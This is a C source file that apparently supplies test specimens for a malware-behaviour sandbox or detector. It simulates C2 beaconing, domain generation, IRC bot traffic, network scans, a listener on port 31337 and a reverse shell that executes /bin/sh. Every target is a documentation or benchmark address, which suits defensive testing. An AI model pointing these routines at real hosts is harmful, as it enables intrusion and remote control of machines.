/* Whom a specimen talks to: addresses of documentation and of benchmarks (RFC 5737, 2544, 3849), which lead nowhere but to the garden. */
#include "behaviour.h"

#include <netinet/ip.h>
#include <netinet/tcp.h>

static int dial(const char *address, unsigned port, int type)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
	struct timeval t = { .tv_sec = 2 };
	int s = socket(AF_INET, type | SOCK_CLOEXEC, 0);

	inet_pton(AF_INET, address, &a.sin_addr);
	setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &t, sizeof t);
	if (connect(s, (struct sockaddr *)&a, sizeof a)) {
		close(s);
		return -1;
	}
	return s;
}

static int say(int s, const char *text)
{
	return s < 0 || send(s, text, strlen(text), MSG_NOSIGNAL) < 0;
}

static void hear(int s)
{
	char block[4096];

	if (s >= 0 && recv(s, block, sizeof block, 0) < 0)
		return;
}

ACTION(http_poll)
{
	for (int i = 0; i < 3; i++) {
		int s = dial("192.0.2.80", 80, SOCK_STREAM);

		say(s, "GET /gate.php?id=7 HTTP/1.1\r\nHost: c2.behaviour.test\r\nUser-Agent: behaviour/1\r\nConnection: close\r\n\r\n");
		hear(s);
		close(s);
		usleep(200000);
	}
	return 0;
}

/* The first message of TLS 1.2, for the name c2.behaviour.test. */
ACTION(tls_hello)
{
	static const char HELLO[] = "\x16\x03\x01\x00\x49\x01\x00\x00\x45\x03\x03"
		"0123456789abcdef0123456789abcdef" "\x00\x00\x02\xc0\x2b\x01\x00\x00\x1a\x00\x00\x00\x16\x00\x14\x00\x00\x11" "c2.behaviour.test";
	int s = dial("192.0.2.43", 443, SOCK_STREAM);

	if (s >= 0 && send(s, HELLO, sizeof HELLO - 1, MSG_NOSIGNAL) > 0)
		hear(s);
	return 0;
}

/* Names that follow from a number; each is asked for. */
ACTION(domain_generation)
{
	uint32_t state = 0x1234567;
	int s = dial("192.0.2.53", 53, SOCK_DGRAM);

	for (int i = 0; i < 25; i++) {
		unsigned char q[64] = { (unsigned char)i, 1, 1, 0, 0, 1 };
		size_t n = 12;

		q[n++] = 12;
		for (int k = 0; k < 12; k++) {
			state = state * 1664525u + 1013904223u;
			q[n++] = (unsigned char)('a' + (state >> 24) % 26);
		}
		memcpy(q + n, "\4test\0\0\1\0\1", 10);
		n += 10;
		if (send(s, q, n, 0) < 0)
			continue;
		hear(s);
	}
	return 0;
}

ACTION(irc_bot)
{
	int s = dial("192.0.2.66", 6667, SOCK_STREAM);

	if (say(s, "NICK behaviour7\r\nUSER b 0 * :b\r\n"))
		return 0;
	hear(s);
	say(s, "JOIN #behaviour\r\n");
	hear(s);
	say(s, "PRIVMSG #behaviour :ready\r\nQUIT\r\n");
	return 0;
}

ACTION(sends_mail)
{
	int s = dial("192.0.2.25", 25, SOCK_STREAM);
	static const char *const SAID[] = { "EHLO behaviour.test\r\n", "MAIL FROM:<a@behaviour.test>\r\n", "RCPT TO:<b@behaviour.test>\r\n", "DATA\r\n",
		"Subject: hello\r\n\r\nhello\r\n.\r\n", "QUIT\r\n" };

	hear(s);
	for (size_t i = 0; i < sizeof SAID / sizeof *SAID && !say(s, SAID[i]); i++)
		hear(s);
	return 0;
}

ACTION(ftp_upload)
{
	int s = dial("192.0.2.21", 21, SOCK_STREAM);
	static const char *const SAID[] = { "USER behaviour\r\n", "PASS behaviour\r\n", "TYPE I\r\n", "PASV\r\n", "QUIT\r\n" };

	hear(s);
	for (size_t i = 0; i < sizeof SAID / sizeof *SAID && !say(s, SAID[i]); i++)
		hear(s);
	return 0;
}

ACTION(socks_proxy)
{
	int s = dial("192.0.2.108", 1080, SOCK_STREAM);

	if (s >= 0 && send(s, "\5\1\0", 3, MSG_NOSIGNAL) == 3) {
		hear(s);
		if (send(s, "\5\1\0\1\xc0\0\2\1\0\x50", 10, MSG_NOSIGNAL) == 10)
			hear(s);
	}
	return 0;
}

ACTION(connects_ipv6)
{
	struct sockaddr_in6 a = { .sin6_family = AF_INET6, .sin6_port = htons(8080) };
	int s = socket(AF_INET6, SOCK_STREAM | SOCK_CLOEXEC, 0);

	inet_pton(AF_INET6, "2001:db8::7", &a.sin6_addr);
	if (connect(s, (struct sockaddr *)&a, sizeof a))
		return 0;
	return 0;
}

static void scan(uint32_t from, unsigned n, uint32_t step, unsigned port, int type)
{
	for (uint32_t i = 0; i < n; i++) {
		struct in_addr a = { htonl(from + (i * step) % 65536) };
		int s = dial(inet_ntoa(a), port, type);

		if (s >= 0 && type == SOCK_DGRAM)
			say(s, "x");
		if (s >= 0)
			close(s);
	}
}

ACTION(scan_sequential)
{
	scan(0xc6120001, 40, 1, 23, SOCK_STREAM);
	return 0;
}

ACTION(scan_random)
{
	scan(0xc6120000, 40, 40503, 22, SOCK_STREAM);
	return 0;
}

ACTION(scan_udp)
{
	scan(0xc6120001, 40, 1, 161, SOCK_DGRAM);
	return 0;
}

ACTION(scan_ports)
{
	for (unsigned port = 1; port <= 40; port++) {
		int s = dial("192.0.2.9", port, SOCK_STREAM);

		if (s >= 0)
			close(s);
	}
	return 0;
}

ACTION(scan_raw)
{
	struct { struct tcphdr t; } p;
	struct sockaddr_in a = { .sin_family = AF_INET };
	int s = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_TCP);

	for (uint32_t i = 0; s >= 0 && i < 40; i++) {
		memset(&p, 0, sizeof p);
		p.t.source = htons(40000);
		p.t.dest = htons(23);
		p.t.doff = 5;
		p.t.syn = 1;
		a.sin_addr.s_addr = htonl(0xc6120001 + i);
		sendto(s, &p, sizeof p, 0, (struct sockaddr *)&a, sizeof a);
	}
	return 0;
}

ACTION(listens)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(31337) };
	int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	return bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 1);
}

ACTION(reverse_shell)
{
	int s = dial("192.0.2.44", 4444, SOCK_STREAM);

	/* Who does not answer gives no orders either. */
	if (s < 0)
		return 0;
	shutdown(s, SHUT_RD);
	dup2(s, 0);
	execl("/bin/sh", "sh", (char *)NULL);
	return 1;
}

CHOSEN
